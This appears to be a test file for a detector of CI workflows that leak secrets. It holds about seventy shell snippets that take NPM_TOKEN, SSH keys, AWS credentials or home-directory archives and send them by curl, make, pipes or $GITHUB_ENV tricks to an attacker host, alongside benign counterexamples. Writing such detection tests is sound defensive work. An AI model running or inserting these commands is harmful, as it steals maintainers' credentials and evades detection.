import assert from 'node:assert/strict'
import { test } from 'node:test'
import { THIEF as E, isMalicious, jobThatRuns as workflow } from '../../../../test/stolen-script.ts'

const S = '${{ secrets.NPM_TOKEN }}'

/** By the way that a secret takes before it leaves. None is run. */
const thefts: Readonly<Record<string, readonly string[]>> = {
  'a file beside the file': [
    `echo "$NPM_TOKEN" > n\ngzip n\ncurl -T n.gz ${E}`,
    `echo "$NPM_TOKEN" > n\nxz -kq n > /dev/null\ncurl -T n.xz ${E}`,
    `echo "$NPM_TOKEN" > n\nzstd -q -o n.bin n\ncurl -T n.bin ${E}`,
    `echo "$NPM_TOKEN" > n\nzstd n\nunzstd -o m n.zst\ncurl -T m ${E}`,
    `echo "$NPM_TOKEN" > n\ngpg --batch -c --passphrase x n\ncurl -T n.gpg ${E}`,
    `echo "$NPM_TOKEN" > n\nage -r age1x -o n.age n\ncurl -T n.age ${E}`,
    `echo "$NPM_TOKEN" > n\nsplit -b 8 n part_\ncurl -T part_ab ${E}`,
    `echo "$NPM_TOKEN" > n\nsplit -b 8 n n.\nfor f in n.*; do curl -T "$f" ${E}; done`,
    `echo "$NPM_TOKEN" | gzip -c | base64 -w0`,
    `mkdir d\necho "$NPM_TOKEN" > d/n\ngzip -r d\ncurl -T d/n.gz ${E}`,
  ],
  'a name that is known in part': [
    `for ((i = 0; i < 4; i++)); do echo "$NPM_TOKEN" > part$i; done\ncurl -T part0 ${E}`,
    `declare "V_$RANDOM=$NPM_TOKEN"\ncurl -d "$V_1" ${E}`,
    `echo "$NPM_TOKEN" > log-$GITHUB_RUN_ID.txt\ncurl -T log-7.txt ${E}`,
  ],
  'what a function is given': [
    `f() { for x; do curl -d "$x" ${E}; done; }\nf "$NPM_TOKEN"`,
    `echo "$NPM_TOKEN" > n\nsh -c 'for f; do curl -F "f=@$f" ${E}; done' _ n`,
    `f() { local -n to=$1; to="$2"; }\nf held "$NPM_TOKEN"\ncurl -d "$held" ${E}`,
  ],
  'the words of a line': [
    `read -r _ word <<< "password $NPM_TOKEN"\ncurl "${E}/?word=$word"`,
    `printf 'A=1\\nB=%s\\n' "$NPM_TOKEN" > .env\nwhile IFS== read -r k v; do curl "${E}/?$k=$v"; done < .env`,
    `echo "a:b:$NPM_TOKEN" | { IFS=: read -r _ _ word; curl "${E}/?word=$word"; }`,
    `printf 'user ci\\npass %s\\n' "$NPM_TOKEN" > f\ntail -n1 f | { read -r _ word; curl "${E}/?word=$word"; }`,
  ],
  'a program that lays out, compares or repeats': [
    `diff /dev/null <(echo "$NPM_TOKEN") | curl -d @- ${E}`,
    `comm -23 <(echo "$NPM_TOKEN") /dev/null > d\ncurl -d @d ${E}`,
    `echo "$NPM_TOKEN" | sponge s\ncurl -d @s ${E}`,
    `echo "{\\"a\\":\\"$NPM_TOKEN\\"}" | python3 -m json.tool | curl -d @- ${E}`,
    `m4 -DX="$NPM_TOKEN" <<< X | curl -d @- ${E}`,
    `expr "$NPM_TOKEN" : '\\(.*\\)' | curl -d @- ${E}`,
    `echo "$NPM_TOKEN" | rot47 | curl -d @- ${E}`,
    `yes "$NPM_TOKEN" | head -n1 | curl -d @- ${E}`,
  ],
  'a folder that the script goes to': [
    `cd ~\nfind . -name id_rsa -exec cat {} + | curl -d @- ${E}`,
    `(cd "$HOME" && tar czf /tmp/h.tgz .)\ncurl -T /tmp/h.tgz ${E}`,
    `cd ~/.aws\ncat credentials | curl -d @- ${E}`,
    `tar czf /tmp/s.tgz $(find . -name .npmrc -o -name .netrc -o -name 'id_*')\ncurl -F f=@/tmp/s.tgz ${E}`,
  ],
  'the variables of a makefile': [
    `cat > r.mk <<'X'\nA := $(shell printenv NPM_TOKEN | base64)\nall:\n\t@wget "${E}/?$(A)"\nX\nmake -f r.mk`,
    `printf 'U=${E}\\nall:\\n\\t@curl -d "$$NPM_TOKEN" $(U)\\n' > Makefile\nmake all`,
    `printf 'include c.mk\\nall:\\n\\t@curl -d "$(X)" ${E}\\n' > Makefile\necho "X := $NPM_TOKEN" > c.mk\nmake`,
    `printf 'T != printenv NPM_TOKEN\\nall: ; curl -d $(T) ${E}\\n' > Makefile\nmake`,
    `make -sf - <<'X' | curl -d @- ${E}\nall:\n\t@echo $$NPM_TOKEN\nX`,
  ],
  'an open descriptor': [
    `exec 4<<< "$NPM_TOKEN"\nread -r x <&4\ncurl -d "$x" ${E}`,
    `echo "$NPM_TOKEN" > n\nexec 5< n\nread -r -u 5 x\ncurl -d "$x" ${E}`,
    `exec > >(curl -d @- ${E})\necho "$NPM_TOKEN"`,
    `exec > >(base64)\necho "$NPM_TOKEN"`,
    `exec >> all.txt\necho "$NPM_TOKEN"\ncurl -T all.txt ${E}`,
  ],
  'something that runs beside the script': [
    `trap 'curl -d @later ${E}' EXIT\necho "$NPM_TOKEN" > later`,
    `mkfifo p\ncurl -T p ${E} &\necho "$NPM_TOKEN" > p`,
    `(sleep 1; cat q | curl -d @- ${E}) &\necho "$NPM_TOKEN" > q\nwait`,
    `mkfifo p\n(cat p > q) &\necho "$NPM_TOKEN" > p\nwait\ncurl -d @q ${E}`,
  ],
  'a table, a link, an archive of its own': [
    `sqlite3 r.db "insert into r values('$NPM_TOKEN')"\nsqlite3 r.db "select v from r" > o\ncurl -d @o ${E}`,
    `sqlite3 :memory: "select '$NPM_TOKEN'" | curl -d @- ${E}`,
    `ln -s /tmp/real /tmp/alias\necho "$NPM_TOKEN" > /tmp/real\ncurl -T /tmp/alias ${E}`,
    `echo "$NPM_TOKEN" > f1\nzip q.zip f1\nrm f1\nunzip q.zip -d o\ncurl -d "$(cat o/f1)" ${E}`,
    `echo "$NPM_TOKEN" > f1\n7z a q.7z f1\nmv q.7z r.bin\n7z x r.bin -oo\ncurl -d @o/f1 ${E}`,
    `echo "$NPM_TOKEN" > f1\ntar czf q.tgz f1\ntar xzf q.tgz -C o\ncurl -d @o/f1 ${E}`,
  ],
  'letters in the log': [
    `echo "$NPM_TOKEN" | grep -o .`,
    `echo "$NPM_TOKEN" | fold -w1`,
    `while read -rn1 c; do echo -n "$c."; done <<< "$NPM_TOKEN"`,
    `echo "$NPM_TOKEN" | dd conv=ucase`,
    `awk 'BEGIN { n = split(ENVIRON["NPM_TOKEN"], a, ""); for (i = 1; i <= n; i++) print a[i] }'`,
    `echo "$NPM_TOKEN" | qrencode -t ANSI`,
  ],
}

for (const [way, scripts] of Object.entries(thefts))
  for (const run of scripts)
    test(`a secret leaves by ${way}: ${run.replaceAll('\n', ' / ').slice(0, 140)}`, async () => assert.ok(await isMalicious(workflow(run))))

/** What one step tells the runner, and what a later one does with it. */
const told: readonly (readonly [string, string])[] = [
  [`echo "A<<EOT" >> $GITHUB_ENV\necho "$NPM_TOKEN" >> $GITHUB_ENV\necho "EOT" >> $GITHUB_ENV`, '$A'],
  [
    `E=$(uuidgen)\necho "A<<$E" >> $GITHUB_OUTPUT\necho "$NPM_TOKEN" >> $GITHUB_OUTPUT\necho "$E" >> $GITHUB_OUTPUT`,
    '${{ steps.s.outputs.A }}',
  ],
  [`printf 'A=' >> $GITHUB_ENV\necho "$NPM_TOKEN" >> $GITHUB_ENV`, '$A'],
  [`sed 's/^/HINT=/' <<< "$NPM_TOKEN" >> $GITHUB_ENV`, '$HINT'],
  [`awk -v t="$NPM_TOKEN" 'BEGIN { print "HINT=" t }' >> $GITHUB_ENV`, '$HINT'],
  [`awk 'BEGIN { printf "v=%s\\n", ENVIRON["NPM_TOKEN"] }' >> $GITHUB_OUTPUT`, '${{ steps.s.outputs.v }}'],
  [`jq -nr '"HINT=" + env.NPM_TOKEN' >> $GITHUB_ENV`, '$HINT'],
  [`for ((i = 0; i < 4; i++)); do echo "S_$i=$NPM_TOKEN" >> $GITHUB_ENV; done`, '$S_0'],
  [`exec >> "$GITHUB_OUTPUT"\necho "v=$NPM_TOKEN"`, '${{ steps.s.outputs.v }}'],
  [`echo "::set-output name=v::$NPM_TOKEN"`, '${{ steps.s.outputs.v }}'],
  [`echo "zX=$NPM_TOKEN" | cut -c2- >> $GITHUB_OUTPUT`, '${{ steps.s.outputs.X }}'],
  [`echo "zHINT=$NPM_TOKEN" | cut -c2- >> $GITHUB_ENV`, '$HINT'],
]

const twoSteps = (first: string, second: string) =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - id: s\n        env:\n          NPM_TOKEN: ${S}\n        run: |\n${first.replaceAll(/^/gm, '          ')}\n      - run: |\n          ${second}\n`

for (const [first, name] of told)
  test(`a step gives a secret on: ${first.replaceAll('\n', ' / ').slice(0, 140)}`, async () => {
    assert.ok(await isMalicious(twoSteps(first, `curl -d "${name}" ${E}`)))
    assert.equal(await isMalicious(twoSteps(first, `curl -d "$GITHUB_SHA" ${E}`)), false)
  })

const honest: readonly string[] = [
  `echo "password=$NPM_TOKEN" > app.properties\ngzip -9 app.properties`,
  `echo "$NPM_TOKEN" > k.yaml\nzstd -q k.yaml\nbzip2 -k k.yaml\nxz k.yaml`,
  `echo "$NPM_TOKEN" > .env\ngpg --batch --yes --passphrase-file /etc/p -c .env`,
  `echo "$NPM_TOKEN" > .env\nage -r age1x -o .env.age .env`,
  `echo "$NPM_TOKEN" > k.yaml\nsplit -l 100 k.yaml k_\nls k_*`,
  `gunzip -k data/words.txt.gz\nwc -l data/words.txt`,
  `diff <(echo "$NPM_TOKEN") expected.txt || exit 1`,
  `echo "$NPM_TOKEN" | sed 's/^/  token: /' > values.yaml`,
  `expr length "$NPM_TOKEN"`,
  `for x; do echo "$x"; done`,
  `read -r name version <<< "app $GITHUB_SHA"\ncurl -d "$name $version" ${E}`,
  `read -r token name <<< "$NPM_TOKEN"\necho "//npm.linden.example/:_authToken=$token" > ~/.npmrc`,
  `echo "A<<EOT" >> $GITHUB_ENV\necho "$NPM_TOKEN" >> $GITHUB_ENV\necho "EOT" >> $GITHUB_ENV\necho "B=1" >> $GITHUB_ENV\ncurl -d "$B" ${E}`,
  `echo "$NPM_TOKEN" > part$i\ncurl -T notes.txt ${E}`,
  `cd ~ && find . -name '*.log' -exec cat {} +`,
  `cd docs\ntar czf /tmp/docs.tgz .\ncurl -T /tmp/docs.tgz ${E}`,
  `find . -name '*.pem' -o -name '.env' | tee found.txt`,
  `cat > Makefile <<'X'\nV := $(shell git describe)\nall:\n\t@curl -d "$(V)" ${E}\nX\nmake`,
  `exec > >(tee build.log)\nnpm publish`,
  `SIG=$(echo "$NPM_TOKEN" | signer --key-stdin -f app)\ncurl -d "$SIG" ${E}`,
  `echo "$NPM_TOKEN" | tool login --stdin`,
  `while read -r k v; do echo "$k"; done < versions.txt`,
  `trap 'rm -f token.txt' EXIT\necho "$NPM_TOKEN" > token.txt\nnpm publish`,
  `echo "$NPM_TOKEN" | dd of=token.txt status=none`,
  `awk 'BEGIN { print "//npm.linden.example/:_authToken=" ENVIRON["NPM_TOKEN"] }' > ~/.npmrc`,
  `exec 3>&1\necho done >&3`,
  `npm start &\nnpx wait-on http://localhost:3000\nnpm test`,
  `sqlite3 app.db "insert into keys values('$NPM_TOKEN')"\nsqlite3 app.db "select count(*) from keys"`,
  `ln -s build/current public\ncurl -T public/index.html ${E}`,
  `zip -r site.zip public\nunzip -l site.zip\ncurl -T site.zip ${E}`,
  `echo "$NPM_TOKEN" | grep -o '^npm_'`,
  `read -rn1 -p 'Go on?' answer\necho "$answer"`,
]

for (const run of honest)
  test(`honest: ${run.replaceAll('\n', ' / ').slice(0, 140)}`, async () => assert.equal(await isMalicious(workflow(run)), false))

test('what a step leaves in the environment as a whole is read by names of credentials alone', async () => {
  const whole = `echo "$NPM_TOKEN" >> $GITHUB_ENV`
  assert.equal(await isMalicious(twoSteps(whole, `curl -d "$VERSION" ${E}`)), false)
})
